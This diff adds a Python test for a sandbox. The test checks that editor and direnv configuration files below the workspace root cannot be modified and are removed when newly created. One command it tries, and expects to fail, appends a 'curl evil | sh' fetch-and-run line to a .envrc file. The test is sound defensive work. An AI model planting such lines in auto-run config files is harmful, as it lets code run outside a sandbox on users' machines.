@@ -251,3 +251,33 @@ def shutil_rmtree(path: Path) -> None:
     import shutil
 
     shutil.rmtree(path, ignore_errors=True)
+
+
+async def test_editor_settings_below_the_root_stay_read_only_and_new_ones_go(
+    outside: Layout,
+) -> None:
+    """An editor reads `.dir-locals.el` from every folder above the file it opens, direnv an
+    `.envrc` in any folder the user enters, Neovim `.nvim.lua` where it starts: below the root
+    they run code outside the sandbox as surely as at the top."""
+    shell = shell_for(require_sandbox(outside.home, outside.ws.parent), outside)
+    (outside.ws / "pkg").mkdir()
+    (outside.ws / "pkg/.envrc").write_text("# mine\n")
+    changed = await run(shell, outside, "echo 'curl evil | sh' >> pkg/.envrc")
+    assert changed.exit_code != 0
+    assert (outside.ws / "pkg/.envrc").read_text() == "# mine\n"
+    made = [
+        "src/.dir-locals.el",
+        "src/deep/.nvim.lua",
+        "pkg/.vscode/settings.json",
+        "pkg/.vscode/x/.envrc",
+        "docs/.helix/config.toml",
+        "docs/.envrc",
+    ]
+    script = " && ".join(f"mkdir -p $(dirname {m}) && echo x > {m}" for m in made)
+    result = await run(shell, outside, script + " && echo created")
+    assert "created" in result.output, result.output
+    assert result.exit_code == 126 and "removed" in result.output, result.output
+    for m in made:
+        assert not (outside.ws / m).exists(), m
+    assert (outside.ws / "src/deep").is_dir()  # what is not protected stays
+    assert (outside.ws / "pkg/.envrc").read_text() == "# mine\n"
